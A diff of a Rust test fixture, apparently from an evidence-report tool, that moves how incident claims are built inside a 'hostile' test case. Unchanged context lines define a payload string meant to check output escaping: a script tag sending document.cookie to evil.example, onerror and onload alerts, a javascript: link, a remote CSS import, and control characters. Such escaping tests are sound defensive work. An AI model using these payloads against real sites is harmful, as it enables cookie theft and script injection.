@@ -2,10 +2,10 @@
 
 use tracekeep_core::json::Json;
 use tracekeep_evidence::account::Account;
-use tracekeep_evidence::bundle::{Contents, Kind};
+use tracekeep_evidence::bundle::{Contents, IncidentClaims, Kind};
 use tracekeep_evidence::report::{Cover, report};
 
-use super::ledger::{Ledger, incident_claims};
+use super::ledger::Ledger;
 
 /// What would run, load or lead somewhere if it were markup.
 const HOSTILE: &str = r#"</title></table></svg><script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)><svg onload=alert(2)><a href=\"javascript:alert(3)\">x</a><style>@import url(//evil.example/x.css)</style>\u202e&lt;\u0000"#;
@@ -49,8 +49,8 @@ pub(crate) fn hostile() -> (Ledger, Contents) {
     let words = Json::parse(&format!("\"{HOSTILE}\"")).unwrap().value().as_str().unwrap().to_owned();
     contents.tenant_id = words.clone();
     contents.exported_by = words.clone();
-    contents.incident = Some(incident_claims());
     let account = Account::of(&contents.records, Some(RUN), Some("inc-1"));
+    contents.incident = IncidentClaims::of(&account);
     let checkpoint = ledger.checkpoint(ledger.size());
     let cover = Cover {
         kind: "evidence",
